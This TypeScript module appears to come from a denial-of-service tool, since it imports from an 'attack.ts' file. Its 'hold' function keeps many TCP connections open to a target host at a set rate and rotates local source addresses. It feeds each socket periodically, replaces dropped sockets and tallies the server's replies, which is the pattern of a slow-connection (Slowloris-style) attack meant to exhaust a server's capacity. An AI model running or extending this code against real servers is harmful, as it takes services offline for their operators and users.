import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Field } from './attack.ts';

export interface Held {
  readonly addresses: readonly string[];
  /** Connections at a time. */
  readonly count: number;
  /** Connections that are opened, at most. */
  readonly perSecond: number;
  readonly begin: (socket: Socket, turn: number) => void;
  /** Once a second on each. */
  readonly goOn: (socket: Socket) => void;
}

/** Milliseconds between two portions. */
const PORTION_MS = 20;

/** Keeps connections open until the field's signal, and opens others for those that are closed. */
export async function hold({ url, signal, tally }: Field, options: Held): Promise<void> {
  const { addresses, count, perSecond, begin, goOn } = options;
  const { hostname, port } = new URL(url);
  const open = new Set<Socket>();
  let turn = 0;
  let most = 0;

  function dial(): void {
    const localAddress = addresses[turn % addresses.length];
    const socket = connect({ host: hostname, port: Number(port), ...(localAddress && { localAddress }) });
    const place = turn++;
    let answered = '';
    open.add(socket);
    socket.on('connect', () => {
      tally.count('opened');
      begin(socket, place);
    });
    socket.on('data', (bytes: Buffer) => {
      answered ||= /^HTTP\/1\.1 \d+/.exec(bytes.toString('latin1'))?.[0].slice(9) ?? 'something';
    });
    socket.on('error', () => {});
    socket.on('close', () => {
      open.delete(socket);
      if (!signal.aborted) tally.count(answered || 'hung up on');
    });
  }

  const second = setInterval(() => {
    for (const socket of open) if (!socket.connecting && socket.writable) goOn(socket);
  }, 1_000);
  const portion = (perSecond * PORTION_MS) / 1_000;
  while (!signal.aborted) {
    for (let dialled = 0; dialled < portion && open.size < count; dialled++) dial();
    most = Math.max(most, open.size);
    await sleep(PORTION_MS);
  }
  clearInterval(second);
  tally.count('open at most', most);
  for (const socket of open) socket.destroy();
}
